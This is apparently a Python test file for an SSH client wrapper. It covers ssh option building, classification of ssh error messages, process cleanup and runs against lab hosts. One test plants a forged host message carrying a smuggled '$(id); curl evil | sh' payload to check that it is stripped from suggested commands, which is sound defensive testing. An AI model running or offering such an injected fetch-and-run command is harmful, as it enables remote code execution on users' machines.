"""The words for ssh, what its complaints mean, and real answers of real hosts."""

from __future__ import annotations

import asyncio
import itertools
import os
import time
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import pytest
import uvloop
from for_every import for_every_row
from ssh_hosts import Rack

from oarsman.engines.hosts.ssh import client
from oarsman.engines.hosts.ssh.client import Answer, Ssh, on_all, trouble
from oarsman.engines.hosts.ssh.inventory import Inventory, SshHost
from oarsman.engines.hosts.ssh.trouble import NOT_STARTED, TIMED_OUT, last_line

PLAIN = SshHost(name="node1")
FULL = SshHost(name="node1", address="10.0.0.1", user="me", port=2222, jump="me@gate:22", key="keys/rack")


def ssh(file: Path = Path("/lab/hosts.yaml"), *, config: str = "", program: str = "ssh") -> Ssh:
    return Ssh(Inventory(file=file, hosts=(), ssh_config=config), program=program)


def pairs(words: list[str]) -> list[tuple[str, str]]:
    return list(itertools.pairwise(words))


@pytest.mark.parametrize("new_loop", [asyncio.new_event_loop, uvloop.new_event_loop], ids=["asyncio", "uvloop"])
def test_an_ssh_that_ends_before_it_is_told_anything_is_heard_all_the_same(
    new_loop: Callable[[], asyncio.AbstractEventLoop], monkeypatch: pytest.MonkeyPatch
) -> None:
    """As on a busy machine, where a host may refuse before the script is on its way."""
    begin = client.begin

    async def begun_and_ended(*words: str, **options: Any) -> asyncio.subprocess.Process:
        process = await begin(*words, **options)
        await process.wait()
        return process

    monkeypatch.setattr(client, "begin", begun_and_ended)
    with asyncio.Runner(loop_factory=new_loop) as runner:
        told_too_late = client.outcome("sh", "-c", "echo refused >&2", text="a script", patience=None)
        assert runner.run(told_too_late) == (0, "", "refused\n")


# -- words ----------------------------------------------------------------------------------------------------
def test_a_plain_host_is_left_to_the_configuration_of_the_user() -> None:
    words = ssh().argv(PLAIN, "hostname")
    assert not {"-F", "-l", "-p", "-J", "-i"} & set(words)
    assert not any("StrictHostKeyChecking" in word or "IdentitiesOnly" in word for word in words)
    assert words[-3:] == ["--", "node1", "hostname"]


def test_what_the_inventory_says_is_said() -> None:
    words = ssh(config="ssh/config").argv(FULL, "/bin/sh")
    expected = {("-F", "/lab/ssh/config"), ("-l", "me"), ("-p", "2222"), ("-J", "me@gate:22"), ("-i", "/lab/keys/rack")}
    assert expected <= set(pairs(words))
    assert words[-3:] == ["--", "10.0.0.1", "/bin/sh"]


@pytest.mark.parametrize(
    ("options", "present", "absent"),
    [
        ({}, ["BatchMode=yes", "ConnectTimeout=10", "ControlMaster=no"], ["ControlPath"]),
        ({"batch": False, "timeout": 3}, ["BatchMode=no", "ConnectTimeout=3"], []),
        ({"control": "/run/c"}, ["ControlMaster=no", "ControlPath=/run/c"], ["ControlPersist"]),
        ({"control": "/run/c", "master": True}, ["ControlMaster=yes", "ControlPath=/run/c", "ControlPersist=no"], []),
        ({"control": "/a b/100%"}, ['ControlPath="/a b/100%%"'], []),
    ],
)
def test_options(options: dict[str, object], present: list[str], absent: list[str]) -> None:
    words = ssh().argv(PLAIN, **options)  # type: ignore[arg-type]
    assert {("-o", option) for option in present} <= set(pairs(words))
    assert not [word for word in words for name in absent if name in word]


def test_options_of_the_caller_come_first_as_ssh_takes_the_first() -> None:
    words = ssh().argv(PLAIN, options=["ConnectTimeout=1"])
    assert words.index("ConnectTimeout=1") < words.index("ConnectTimeout=10")


# -- what is in the way ----------------------------------------------------------------------------------------
CHANGED = """\
@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@
@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @
@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@
Offending ED25519 key in /home/me/.ssh/known_hosts:7
Host key for [10.0.0.1]:2222 has changed and you have requested strict checking.
Host key verification failed.
"""
OPEN_KEY = """\
Permissions 0644 for '/home/me/k' are too open.
Load key "/home/me/k": bad permissions
me@10.0.0.1: Permission denied (publickey).
"""
GATE_GONE = "kex_exchange_identification: Connection closed by remote host\n"
OLD_GATE_GONE = "ssh_exchange_identification: Connection closed by remote host\n"

MESSAGES = [
    ("unresolvable", "ssh: Could not resolve hostname nod1: Name or service not known", "nod1"),
    ("unresolvable", "ssh: Could not resolve hostname nod1: Temporary failure in name resolution", "nod1"),
    ("unresolvable", "hostname contains invalid characters", "10.0.0.1"),
    ("refused", "ssh: connect to host 10.0.0.1 port 2222: Connection refused", "port 2222"),
    ("refused", "ssh: connect to host 10.0.0.1 port 22: Connection refused", "port 22"),
    ("timeout", "ssh: connect to host 10.0.0.1 port 2222: Connection timed out", "port 2222"),
    ("timeout", "ssh: connect to host 10.0.0.1 port 2222: Operation timed out", "port 2222"),
    ("timeout", "Connection timed out during banner exchange", "port 2222"),
    ("timeout", "Connection timed out during banner exchange\nConnection to 10.0.0.1 port 2222 timed out", "port 2222"),
    ("unreachable", "ssh: connect to host 10.0.0.1 port 2222: No route to host", "no way"),
    ("unreachable", "ssh: connect to host 10.0.0.1 port 2222: Network is unreachable", "no way"),
    ("unreachable", "ssh: connect to host 10.0.0.1 port 2222: Permission denied", "no way"),
    ("host-key-unknown", "Host key verification failed.", "oarsman hosts trust"),
    (
        "host-key-unknown",
        "No ED25519 host key is known for 10.0.0.1 and you have requested strict checking.\n"
        "Host key verification failed.",
        "ssh -p 2222 -J me@gate:22 me@10.0.0.1",
    ),
    ("host-key-changed", CHANGED, "/home/me/.ssh/known_hosts:7"),
    ("host-key-changed", CHANGED, "ssh-keygen -f /home/me/.ssh/known_hosts -R '[10.0.0.1]:2222'"),
    ("host-key-changed", "@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @", "ssh-keygen -R '[10.0.0.1]:2222'"),
    ("host-key-changed", "@       WARNING: REVOKED HOST KEY DETECTED!               @", "revoked"),
    ("denied", "me@10.0.0.1: Permission denied (publickey,password).", "as me"),
    ("denied", "Permission denied (publickey,gssapi-keyex,gssapi-with-mic).", "as me"),  # 7.x
    ("denied", OPEN_KEY, "too open"),
    (
        "denied",
        "no such identity: /k: No such file or directory\nme@x: Permission denied (publickey).",
        "no such identity",
    ),
    ("denied", "Received disconnect from 10.0.0.1 port 22:2: Too many authentication failures", "Too many"),
    ("jump", "ssh: Could not resolve hostname gate: Name or service not known\n" + GATE_GONE, "hostname gate"),
    ("jump", "ssh: connect to host gate port 22: Connection refused\n" + OLD_GATE_GONE, "Connection refused"),
    ("jump", "me@gate: Permission denied (publickey).\n" + GATE_GONE, "me@gate: Permission denied"),
    ("jump", "Host key verification failed.\n" + GATE_GONE, "verification failed"),
    ("jump", CHANGED + GATE_GONE, "verification failed"),
    ("jump", "channel 0: open failed: administratively prohibited: open failed\nstdio forwarding failed", "prohibited"),
    ("jump", "Connection closed by UNKNOWN port 65535", "me@gate:22"),
    (
        "refused",
        "channel 0: open failed: connect failed: Connection refused\nstdio forwarding failed\n" + GATE_GONE,
        "2222",
    ),
    ("timeout", "channel 0: open failed: connect failed: Connection timed out\nstdio forwarding failed", "no answer"),
    ("unreachable", "channel 0: open failed: connect failed: No route to host\nstdio forwarding failed", "no way"),
    ("unresolvable", "channel 0: open failed: connect failed: Name or service not known\n" + GATE_GONE, "10.0.0.1"),
    ("lost", GATE_GONE, "closed"),
    (
        "lost",
        "kex_exchange_identification: read: Connection reset by peer\nConnection reset by 10.0.0.1 port 22",
        "closed",
    ),
    ("lost", "Connection to 10.0.0.1 closed by remote host.", "closed"),
    ("lost", "client_loop: send disconnect: Broken pipe", "closed"),
    ("lost", "packet_write_wait: Connection to 10.0.0.1 port 22: Broken pipe", "closed"),  # 7.x
    ("lost", "Timeout, server 10.0.0.1 not responding.", "closed"),
    ("lost", "", "closed"),
    (
        "other",
        "Unable to negotiate with 10.0.0.1 port 22: no matching host key type found. Their offer: ssh-rsa",
        "ssh-rsa",
    ),
    ("other", "/home/me/.ssh/config: line 3: Bad configuration option: nonsense\n\n", "Bad configuration option"),
]


@for_every_row(MESSAGES)
def test_complaints_of_ssh_become_one_sentence_with_the_host(kind: str, stderr: str, said: str) -> None:
    found = trouble(FULL, 255, stderr)
    assert found.kind == kind
    assert found.message.startswith("node1 (10.0.0.1): ")
    assert "\n" not in str(found)
    assert said in str(found)


@pytest.mark.parametrize("file", ["/home/me/.ssh/known_hosts", "'/home/me/a b'", '"/home/me/.ssh/known_hosts"'])
def test_the_command_that_is_to_be_typed_has_nothing_of_what_a_host_wrote_behind_it(file: str) -> None:
    said = f"{CHANGED}  ssh-keygen -f {file} -R node1$(id); curl evil | sh\n"
    assert "evil" not in trouble(FULL, 255, said).hint
    assert "$(id)" not in trouble(FULL, 255, said).hint


def test_the_command_that_ssh_says_is_what_is_to_be_typed() -> None:
    said = f'{CHANGED}  ssh-keygen -f "/home/me/a b" -R "[10.0.0.1]:2222"\n'
    assert "ssh-keygen -f '/home/me/a b' -R '[10.0.0.1]:2222'" in trouble(FULL, 255, said).hint


def test_nothing_that_a_host_says_moves_a_cursor() -> None:
    found = trouble(FULL, 1, "\x1b[2J\x1b]0;title\x07gone\x9b\u202e")
    assert "\\x1b[2J\\x1b]0;title\\x07gone\\x9b\\u202e" in found.message
    assert last_line("\x1b[2Jgone\n") == "\\x1b[2Jgone"


TRY = ["Host key verification failed.", "Unable to negotiate with 10.0.0.1 port 22", GATE_GONE + "UNKNOWN port 65535"]


@pytest.mark.parametrize("stderr", TRY)
@pytest.mark.parametrize(
    ("host", "config", "typed"),
    [
        (PLAIN, "", "'ssh node1'"),
        (PLAIN, "conf", "'ssh -F /lab/conf node1'"),
        (PLAIN, "my conf", "'ssh -F '/lab/my conf' node1'"),
        (
            FULL,
            "conf",
            "'ssh -F /lab/conf -l me -p 2222 -J me@gate:22 -i /lab/keys/rack -o IdentitiesOnly=yes 10.0.0.1'",
        ),
    ],
)
def test_what_to_type_goes_the_way_that_the_inventory_says(stderr: str, host: SshHost, config: str, typed: str) -> None:
    assert typed in ssh(config=config).trouble(host, 255, stderr).hint
    assert typed in ssh(config=config).trouble(host, TIMED_OUT, "").hint


def test_an_unknown_name_is_to_be_explained_where_the_inventory_looks_for_it() -> None:
    said = "ssh: Could not resolve hostname node1: Name or service not known"
    assert ssh().trouble(PLAIN, 255, said).hint.endswith("or in ~/.ssh/config")
    assert ssh(config="conf").trouble(PLAIN, 255, said).hint.endswith("or in /lab/conf")


@pytest.mark.parametrize(
    ("code", "stderr", "kind"),
    [
        (NOT_STARTED, "", "no-ssh"),
        (TIMED_OUT, "", "timeout"),
        (127, "sh: 1: rsync: not found", "command-not-found"),
        (3, "tar: disk full\n", "other"),
        (1, "Permission denied", "other"),  # said by the command, not by ssh
        (-9, "", "other"),
    ],
)
def test_codes_that_are_not_of_ssh(code: int, stderr: str, kind: str) -> None:
    assert trouble(PLAIN, code, stderr).kind == kind


# -- with a program in place of ssh ----------------------------------------------------------------------------
def pretend(tmp_path: Path, text: str) -> Ssh:
    program = tmp_path / "ssh"
    program.write_text(f"#!/bin/sh\n{text}\n")
    program.chmod(0o755)
    return ssh(program=str(program))


def run(by: Ssh, script: str = "echo hello", timeout: float = 60) -> Answer:
    return asyncio.run(by.run(PLAIN, script, timeout=timeout))


def test_the_script_comes_to_a_shell_on_its_standard_input(tmp_path: Path) -> None:
    answer = run(pretend(tmp_path, 'for last; do :; done; exec "$last"'), "echo $((6 * 7)); echo bad >&2; exit 3")
    assert answer == Answer(3, "42\n", "bad\n")
    assert answer.code


def test_output_is_bounded_and_its_rest_does_not_block(tmp_path: Path) -> None:
    answer = run(pretend(tmp_path, "head -c 5000000 /dev/zero; echo done >&2"))
    assert len(answer.out) == client.MOST_OUTPUT
    assert answer.err == "done\n"


def test_ssh_that_does_not_read_its_script_is_no_error_of_ours(tmp_path: Path) -> None:
    answer = run(pretend(tmp_path, "exec <&-; echo 'Host key verification failed.' >&2; exit 255"), "x" * 5_000_000)
    assert answer.trouble is not None
    assert answer.trouble.kind == "host-key-unknown"


def test_without_ssh_the_answer_says_so() -> None:
    answer = run(ssh(program="/nonexistent/ssh"))
    assert answer.trouble is not None
    assert answer.trouble.kind == "no-ssh"


def alive(number: Path) -> bool:
    """Still, although it had a moment to go: whoever is killed has to run once more for that."""
    deadline = time.monotonic() + 10
    while (running := _running(number)) and time.monotonic() < deadline:
        time.sleep(0.01)
    return running


def _running(number: Path) -> bool:
    try:
        stat = Path(f"/proc/{number.read_text().strip()}/stat").read_text()
    except OSError:
        return False
    return stat.rsplit(")", 1)[1].split()[0] != "Z"


# It is told everything before it gets stuck: until then it may be that it only just begins.
STUCK = "cat >/dev/null; sleep 3600 & echo $! >{0}/child.new; mv {0}/child.new {0}/child; wait"


def test_at_its_time_limit_ssh_ends_with_its_children(tmp_path: Path) -> None:
    answer = run(pretend(tmp_path, STUCK.format(tmp_path)), timeout=5)
    assert answer.trouble is not None
    assert answer.trouble.kind == "timeout"
    assert not alive(tmp_path / "child")


@pytest.mark.timeout(60)
def test_one_that_talked_while_nobody_listened_ends_too(tmp_path: Path) -> None:
    async def talk_and_end() -> int | None:
        process = await asyncio.create_subprocess_exec(
            "yes", stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE, start_new_session=True
        )
        assert process.stdout is not None
        with pytest.raises(asyncio.LimitOverrunError):
            await process.stdout.readuntil(b"no")
        await client.end(process)
        return process.returncode

    assert asyncio.run(talk_and_end()) == -9


def test_when_cancelled_ssh_ends_with_its_children(tmp_path: Path) -> None:
    asyncio.run(cancelled(pretend(tmp_path, STUCK.format(tmp_path)), there(tmp_path / "child")))
    assert not alive(tmp_path / "child")


async def there(file: Path) -> None:
    while not file.exists():  # noqa: ASYNC110, ASYNC240 - a file has no event
        await asyncio.sleep(0.01)


async def cancelled(ssh: Ssh, moment: Awaitable[None]) -> None:
    task = asyncio.create_task(ssh.run(PLAIN, "", timeout=600))
    await moment
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task


def test_when_cancelled_while_ssh_is_being_started_it_ends_with_its_children_too(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    start = asyncio.create_subprocess_exec

    async def slow_start(*words: str, **options: Any) -> asyncio.subprocess.Process:
        process = await start(*words, **options)
        await there(tmp_path / "child")
        return process

    monkeypatch.setattr(asyncio, "create_subprocess_exec", slow_start)
    script = STUCK.format(tmp_path).removeprefix("cat >/dev/null; ")  # nobody has told it anything yet
    asyncio.run(cancelled(pretend(tmp_path, script), asyncio.sleep(0.01)))
    assert not alive(tmp_path / "child")


def test_no_more_than_so_many_are_at_work_at_once() -> None:
    at_work: set[str] = set()
    most = 0

    async def work(host: SshHost) -> str:
        nonlocal most
        at_work.add(host.name)
        most = max(most, len(at_work))
        for _ in range(3):
            await asyncio.sleep(0)
        at_work.remove(host.name)
        return host.name.upper()

    hosts = [SshHost(name=f"n{number}") for number in range(100)]
    results = asyncio.run(on_all(hosts, work))
    assert most == 32
    assert list(results.items()) == [(host.name, host.name.upper()) for host in hosts]


def test_when_one_fails_the_others_are_ended() -> None:
    ended: list[str] = []

    async def work(host: SshHost) -> None:
        if host.name == "bad":
            raise ValueError(host.name)
        try:
            await asyncio.Event().wait()
        finally:
            ended.append(host.name)

    with pytest.raises(ValueError, match="bad"):
        asyncio.run(on_all([SshHost(name=name) for name in ("a", "bad", "b")], work))
    assert sorted(ended) == ["a", "b"]


# -- with real hosts -------------------------------------------------------------------------------------------
def kind(rack: Rack, host: SshHost, timeout: float = 60) -> str:
    by = ssh(rack.folder / "hosts.yaml", config=str(rack.ssh_config))
    answer = asyncio.run(by.run(host, "hostname", timeout=timeout))
    return answer.trouble.kind if answer.trouble else answer.out.strip()


def test_real_hosts_answer_and_their_faults_have_a_kind(rack: Rack) -> None:
    node = SshHost(name="node1")
    assert kind(rack, node) == "node1"
    assert kind(rack, SshHost(name="first", address=rack[0].address)) == "node1"
    assert kind(rack, SshHost(name="nowhere.invalid")) == "unresolvable"
    assert kind(rack, SshHost(name="node1", port=9)) == "refused"
    assert kind(rack, SshHost(name="node1", user="nobody-of-that-name")) == "denied"
    assert kind(rack, SshHost(name="node1", jump="nowhere.invalid")) == "jump"
    with rack[0].faults.closed_port():
        assert kind(rack, node) == "refused"
    with rack[0].faults.other_host_key():
        assert kind(rack, node) == "host-key-changed"
    with rack[0].faults.silence():
        assert kind(rack, node, timeout=2) == "timeout"
    rack.known_hosts.write_text("")
    assert kind(rack, node) == "host-key-unknown"


def test_commands_go_over_the_socket_of_a_connection_that_is_held(rack: Rack, tmp_path: Path) -> None:
    node, by = SshHost(name="node1"), ssh(config=str(rack.ssh_config))
    socket = str(tmp_path / "c")

    async def held() -> Answer:
        words = by.argv(node, "echo", "held;", "cat", control=socket, master=True)
        pipe = asyncio.subprocess.PIPE
        master = await asyncio.create_subprocess_exec(*words, stdin=pipe, stdout=pipe)
        assert master.stdin is not None
        assert master.stdout is not None
        try:
            assert await master.stdout.readline() == b"held\n"
            with rack[0].faults.key_not_admitted():  # nobody new could log in
                return await by.run(node, "echo $HOME", timeout=60, options=[f"ControlPath={socket}"])
        finally:
            master.stdin.close()
            await master.wait()

    assert asyncio.run(held()) == Answer(0, "/home/rower\n", "")
    assert not os.path.exists(socket)
